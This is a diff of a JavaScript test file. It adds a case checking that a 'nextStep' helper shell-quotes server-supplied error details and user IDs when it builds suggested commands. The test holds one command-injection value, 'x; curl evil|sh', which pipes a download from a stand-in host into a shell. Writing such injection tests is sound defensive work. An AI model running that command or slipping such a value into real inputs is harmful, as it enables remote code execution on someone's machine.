@@ -37,6 +37,18 @@ describe('the next step', () => {
     expect(nextStep(error(code, details), where)).toContain(step)
   })
 
+  it('holds what a server told of as one word of a command, whatever that is', () => {
+    const hostile = 'x; curl evil|sh'
+    const details = new Proxy({}, { get: () => hostile, has: () => true, ownKeys: () => [] })
+    const told = codesWithSteps.flatMap((code) => {
+      const failed = Object.assign(error(code), { details })
+      return [nextStep(failed, served), nextStep(failed, { ...served, typed: { organizationId: hostile, userId: hostile } })]
+    })
+    const steps = told.filter((step) => step?.includes(hostile) === true)
+    expect(steps.length).toBeGreaterThan(3)
+    for (const step of steps) expect(step?.replaceAll(`'${hostile}'`, '')).not.toContain(hostile)
+  })
+
   it('is about the token, where one is set', () => {
     vi.stubEnv('DENIZEN_TOKEN', 'dnz_api_expired')
     try {
